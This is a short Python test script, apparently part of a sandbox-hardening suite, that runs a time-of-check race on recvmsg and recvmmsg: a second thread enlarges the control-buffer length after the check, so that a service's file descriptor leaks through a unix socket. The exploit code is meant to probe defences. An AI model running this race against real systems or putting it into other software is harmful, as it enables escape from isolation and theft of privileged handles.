# SPDX-License-Identifier: Apache-2.0
# attack: recvmsg and recvmmsg whose room for a control part another thread makes after the check
# class: net
# wins: leak
# needs: race net
# options: --connect unix:%A/box1/service
from kit import *

import socket
data = ctypes.create_string_buffer(8)
control = ctypes.create_string_buffer(64)
iov = ctypes.create_string_buffer(struct.pack('<QQ', address(data), 8))
msg = ctypes.create_string_buffer(struct.pack('<QQQQQQQ', 0, 0, address(iov), 1, address(control), 0, 0), 64)
tried()
f = Flipper(address(msg) + 40, 64)


def one(i):
    s = socket.socket(socket.AF_UNIX)
    s.connect(F['service_unix'])
    ctypes.memset(control, 0, 64)
    sc(*(('recvmsg', s.fileno(), msg, 0) if i % 2 else ('recvmmsg', s.fileno(), msg, 1, 0, 0)))
    won = took(struct.unpack('i', control.raw[16:20])[0]) if control.raw[:8] != bytes(8) else False
    s.close()
    return won or i > 300


rounds(one)
f.end()
